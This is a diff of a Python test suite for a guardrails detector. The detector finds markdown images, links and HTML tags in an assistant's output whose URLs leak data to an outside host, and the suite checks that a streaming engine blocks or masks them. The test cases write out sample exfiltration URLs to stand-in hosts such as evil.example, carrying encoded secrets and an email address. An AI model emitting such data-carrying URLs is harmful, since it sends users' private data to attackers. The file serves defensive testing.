@@ -1,23 +1,102 @@
-"""Images and links that carry data out."""
+"""Images and links that carry data out: found, and never let out on a stream before they are judged."""
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from guardrails.injection.links import RULES, TYPE, ExfiltrationClassifier
+from guardrails.detector import Match
+from guardrails.engine import PolicyEngine
+from guardrails.injection.links import RULES, TYPE, LinkDetector
+from guardrails.interface import Segment
+from guardrails.matching.gate import open_gate
+from guardrails.policy import Policy, Rule
+from guardrails.scanner import Scanner
+from tests.support.seam import check_locality, check_stability, found
 
-CARRYING = "Done. ![x](https://evil.example/p.png?d=" + "c2VjcmV0" * 4 + ")"
+DETECTOR = LinkDetector()
+GATE = open_gate(DETECTOR.expressions)
+DATA = "c2VjcmV0" * 4
+CARRYING = f"![x](https://evil.example/p.png?d={DATA})"
+PIECES = st.sampled_from(
+    ["![", "[", "]", "(", ")", "](", "]:", " ", "\n", "!", "\\", "<", "<img src=", "<a href='", "src", '="', ">", "a",
+     "http", "s://", "//e.x/?q=", "https://evil.example/p?d=" + DATA, DATA, "é", "\ud800", "x" * 290, "y" * 1990,
+     CARRYING]
+)  # fmt: skip
+TEXTS = st.lists(PIECES, max_size=14).map("".join)
 
 
-def test_an_image_with_data_is_found_unless_its_host_is_trusted() -> None:
-    (match,) = ExfiltrationClassifier().judge(CARRYING, "assistant")
-    assert (match.type, match.rule, match.score) == (TYPE, "leak.image", 0.9)
-    assert ExfiltrationClassifier(trusted=["evil.example"]).judge(CARRYING, "assistant") == []
-    assert ExfiltrationClassifier(trusted=["other.example"]).judge(CARRYING, "assistant") != []
+def find(text: str, trusted: tuple[str, ...] = ()) -> list[Match]:
+    return found(LinkDetector(trusted=trusted), GATE, text)
 
 
-@given(st.text(st.sampled_from("![]()<img src=https://a.b/?q=%20 \ud800"), max_size=60))
-def test_it_never_raises_and_reports_what_the_catalogue_says(text: str) -> None:
-    """'Never raises on any text.'"""
-    for match in ExfiltrationClassifier("x").judge(text + CARRYING, "tool"):
-        assert match.type == TYPE
-        assert match.rule in RULES
+@pytest.mark.parametrize(
+    ("answer", "rule", "score"),
+    [
+        ("![a](https://e.example/p.png?q=the+secret+is+blue)", "leak.image", 0.9),
+        ("![a](<https://e.example/p.png?q=the+secret+is+blue>)", "leak.image", 0.9),
+        ("![a](//e.example/p.png?q=the+secret+is+blue)", "leak.image", 0.9),
+        (r"![a \] b](https://e.example/p.png?q=the+secret+is+blue)", "leak.image", 0.9),
+        ('<img width=1 src="https://e.example/p?d=' + "QUJD" * 8 + '">', "leak.image", 0.9),
+        ("<IMG\nSRC = https://e.example/p?d=" + "QUJD" * 8 + ">", "leak.image", 0.9),
+        ("![a](https://e.example/" + "x1" * 30 + "/p.png)", "leak.image", 0.9),
+        ("![chart](https://e.example/chart.png)", "leak.image", 0.3),
+        ("[more](https://e.example/?u=anna%40firm.example)", "leak.link", 0.6),
+        ("![a][1]\n\n[1]: https://e.example/?u=anna%40firm.example", "leak.link", 0.6),
+        ('<a href="https://e.example/?u=first%20second">x</a>', "leak.link", 0.6),
+    ],
+)
+def test_addresses_that_carry_data(answer: str, rule: str, score: float) -> None:
+    [match] = find(f"Here you are: {answer}")
+    assert (match.type, match.rule, match.score) == (TYPE, rule, score)
+    assert rule in RULES
+
+
+@pytest.mark.parametrize(
+    "answer",
+    ["[docs](https://docs.example/page?id=5)", "https://e.example/?q=plain", "![x](/local.png)", "a[0](b) // c"],
+)
+def test_other_addresses(answer: str) -> None:
+    assert find(answer) == []
+
+
+def test_trusted_hosts() -> None:
+    answer = "![a](https://img.firm.example/p?q=one+two)"
+    assert find(answer, ("firm.example",)) == []
+    assert find(answer, ("irm.example",))
+    assert find("![a](https://firm.example@evil.example/p?q=one+two)", ("firm.example",))
+
+
+@given(TEXTS, st.data())
+def test_a_stream_may_count_on_what_is_settled(text: str, data: st.DataObject) -> None:
+    """`guardrails/detector.py`, *Stability*: the matches that start before `settled(text)` are as they will be."""
+    check_stability(DETECTOR, GATE, text, data.draw(st.integers(0, len(text))))
+
+
+@given(TEXTS)
+def test_a_match_depends_on_its_reach_alone(text: str) -> None:
+    """`guardrails/detector.py`, *Locality*."""
+    check_locality(DETECTOR, GATE, text, margin=1)
+
+
+@pytest.mark.parametrize("action", ["block", "mask"])
+@pytest.mark.parametrize("size", [1, 3, 7, 1000])
+def test_no_address_leaves_before_it_is_judged(action: str, size: int) -> None:
+    """Whoever shows an answer loads its images as they come: what is shown of one is already out."""
+    rule = Rule(id="r", detector="exfiltration", action=action, mode="enforce")  # pyright: ignore
+    engine = PolicyEngine([Policy("p", (rule,))], Scanner([DETECTOR], gate=open_gate), key=b"k" * 32)
+    said = f"Here it is: {CARRYING} and that was all."
+    stream = engine.stream("chat")
+    assert stream is not None
+    out = "".join(stream.feed("c", said[at : at + size]) for at in range(0, len(said), size)) + stream.flush("c")
+    assert "evil" not in out
+    if action == "mask":
+        assert out == f"Here it is: <{TYPE}> and that was all."
+        (whole,) = engine.inspect([Segment("c", "assistant", said)], "response", "chat").rewrites
+        assert whole.text == out
+    else:
+        assert (out, stream.blocked) == ("Here it is: ", True)
+
+
+def test_prose_is_not_held_back() -> None:
+    for text in ("It costs [about] 5!? (See a[0] and x < y.) ", "Well, that is all there is to say. "):
+        assert DETECTOR.settled(text) == len(text)
